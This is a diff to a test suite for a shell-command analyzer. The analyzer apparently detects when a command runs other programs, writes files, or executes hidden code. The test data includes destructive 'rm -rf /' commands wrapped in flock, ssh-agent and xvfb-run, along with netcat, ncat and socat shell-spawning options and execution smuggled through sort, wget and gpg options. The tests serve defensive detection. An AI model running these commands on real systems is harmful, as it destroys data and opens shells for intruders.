@@ -81,6 +81,9 @@ describe('analyzeShellCommand: spellings found in the audit', () => {
     ['nsenter -t 1 -m -u -i -n -p rm -rf /', ['nsenter', 'rm'], ['rm:-r']], ['unshare -r rm -rf /', ['rm', 'unshare'], ['rm:-r']],
     ['setpriv --reuid=0 rm -rf /', ['rm', 'setpriv'], ['rm:-r']], ['gosu root rm -rf /', ['gosu', 'rm'], ['rm:-r']], ["script -c 'rm -rf /' /dev/null", ['rm', 'script'], ['rm:-r']],
     ['systemd-run --uid=0 rm -rf /', ['rm', 'systemd-run'], ['rm:-r']], ['fakeroot rm -rf /', ['fakeroot', 'rm'], ['rm:-r']],
+    // flock FILE -c CMD (the documented form: -c after the lock file), ssh-agent CMD, xvfb-run CMD
+    ["flock /tmp/l -c 'rm -rf /'", ['flock', 'rm'], ['rm:-r']], ["flock -n /tmp/l --command 'rm -rf /'", ['flock', 'rm'], ['rm:-r']], ['flock /tmp/l rm -rf /', ['flock', 'rm'], ['rm:-r']],
+    ['ssh-agent rm -rf /', ['rm', 'ssh-agent'], ['rm:-r']], ['xvfb-run -a rm -rf /', ['rm', 'xvfb-run'], ['rm:-r']],
   ])('%j runs %j with %j', async (command, programs, flags) => {
     const a = await analyzeShellCommand(command);
     expect(a.programs).toEqual(programs);
@@ -89,6 +92,10 @@ describe('analyzeShellCommand: spellings found in the audit', () => {
 
   it.each([
     ['sudo -e /etc/shadow', ['/etc/shadow']], ['sudoedit /etc/sudoers', ['/etc/sudoers']], ['sudo >x rm -rf /', ['x']],
+    // programs with output files: sort/shuf -o (clustered, long, abbreviated: fail closed), uniq's second operand
+    ['sort -o out f', ['out']], ['sort -uo out f', ['out']], ['sort -ru -oout f', ['out']], ['sort --output=out f', ['out']], ['sort --output out f', ['out']],
+    ['sort --out=out f', ['?']], ['shuf -n 3 -o out f', ['out']], ['uniq in out', ['out']], ['uniq -c -f 2 in out', ['out']], ['uniq -- in out', ['out']],
+    ['sort -t o -k 2 f', []], ['sort -to f', []], ['uniq -f 1 in', []], ['uniq -c in', []], ['shuf -n 3 f', []],
   ])('%j writes %j', async (command, files) => {
     expect((await analyzeShellCommand(command)).writesFiles).toEqual(files);
   });
@@ -115,6 +122,12 @@ describe('analyzeShellCommand: spellings found in the audit', () => {
     // options of ordinary programs that run a command
     "vim -c '!rm -rf /'", "vim '+!rm -rf /' f", "tar -cf x.tar --to-command='rm -rf /' .", "tar --to-com='rm -rf /' -xf x", "tar -xIf 'sh -c id' x",
     "git -c core.pager='rm -rf /' log", 'git --exec-path=/tmp log', "ssh -o ProxyCommand='rm -rf /' x", 'ssh -oProxyCommand=x h', 'scp -S /tmp/x a b:',
+    // options that run a program: sort's compressor (GNU abbreviations too), split's filter, diff programs, askpass, -e of netcats
+    'sort -S 64k --compress-program=sh cmds', 'sort --co=sh f', "split --filter='sh' f", 'sdiff --diff-program=sh a b', 'diff3 --diff-program=sh a b c',
+    'wget --use-askpass=/tmp/x http://h/', 'wget -e use_askpass=/tmp/x http://h/', 'cpio --rsh-command=sh -o', "gpg --photo-viewer 'sh' --list-keys",
+    'nc -e /bin/sh h 1', 'nc.traditional -c sh h 1', 'ncat --sh-exec id h 1', 'ncat --lua-exec x.lua h 1', 'socat - EXEC:sh', "socat - 'TCP:h:1!!SYSTEM:id'", 'socat - exec:/bin/sh,pty',
+    // code on the command line of programs that run what they read; programs that build or defer commands
+    "dc -e '!id'", "sqlite3 db '.shell id'", "sqlite3 -cmd '.system id' db", "flock /tmp/l -c 'rm x' extra", 'parallel rm ::: x', "tmux new 'rm -rf /'", 'screen -dm rm -rf /', 'crontab jobs.txt', 'crontab -r',
     "rsync -e 'sh -c id' a b:", "rsync --server -e 'sh -c id' . d/", "rsync --server -ve'sh -c id' . d/", "rsync --server -vlogDtpre.iLsfxCIvu --rsync-path='sh -c id' . d/",
     'rsync -vlogDtpre.iLsfxCIvu . d/', "man -P 'rm -rf /' ls", "less '+!rm -rf /' f", "zip -TT 'rm -rf /' x.zip f",
     // the grammar's words after a redirection on something other than a simple command
@@ -130,7 +143,7 @@ describe('analyzeShellCommand: spellings found in the audit', () => {
     expect(a.opaqueReasons).toContain('the command is nested more than 500 levels deep');
   });
 
-  it.each(['cat <<EOF\nx\nEOF', "cat <<'EOF'\nx\nEOF", 'cat <<-"EOF"\n\tx\n\tEOF', 'cat <<\\EOF\nx\nEOF', 'git status', 'git log --oneline', 'ssh host uptime', 'rsync -av a b', 'rsync --server -vlogDtpre.iLsfxCIvu . d/', 'rsync --server --sender -vlogDtpre.iLsfxCIvu . d/', 'less +G f', "perl -I lib x.pl", 'ls 2>/dev/null'])(
+  it.each(['cat <<EOF\nx\nEOF', "cat <<'EOF'\nx\nEOF", 'cat <<-"EOF"\n\tx\n\tEOF', 'cat <<\\EOF\nx\nEOF', 'git status', 'git log --oneline', 'ssh host uptime', 'rsync -av a b', 'sort -n f', 'sort -S 1M -T /tmp f', 'uniq -c f', 'nc -zv h 1', 'socat - TCP:h:80', 'crontab -l', 'ssh-agent -k', 'rsync --server -vlogDtpre.iLsfxCIvu . d/', 'rsync --server --sender -vlogDtpre.iLsfxCIvu . d/', 'less +G f', "perl -I lib x.pl", 'ls 2>/dev/null'])(
     '%j is not opaque', async (command) => {
       expect((await analyzeShellCommand(command)).opaqueReasons).toEqual([]);
     },
@@ -151,6 +164,14 @@ describe('analyzeShellCommand: interpreters and shells', () => {
   ])('%j reads its program from the session: a shell', async (command) => {
     const a = await analyzeShellCommand(command);
     expect(a).toMatchObject({ shell: true, interpreter: true });
+  });
+
+  it.each(['m4', 'ed f', 'dc', 'sqlite3 db', 'at now', 'batch'])('%j reads code from the session: a shell', async (command) => {
+    expect(await analyzeShellCommand(command)).toMatchObject({ shell: true, interpreter: true });
+  });
+
+  it.each(['make', 'make -C dir install', 'run-parts /etc/cron.daily', 'm4 macros.m4', 'dc prog.dc'])('%j runs code it reads from files: an interpreter', async (command) => {
+    expect(await analyzeShellCommand(command)).toMatchObject({ shell: false, interpreter: true, opaque: false });
   });
 
   it.each(['python3 x.py', 'python3 -m http.server', 'bash deploy.sh', 'sh ./x.sh', 'perl x.pl', 'node app.js', 'ruby x.rb', 'php -f x.php', 'awk -f prog.awk f', 'sudo python3 x.py'])(
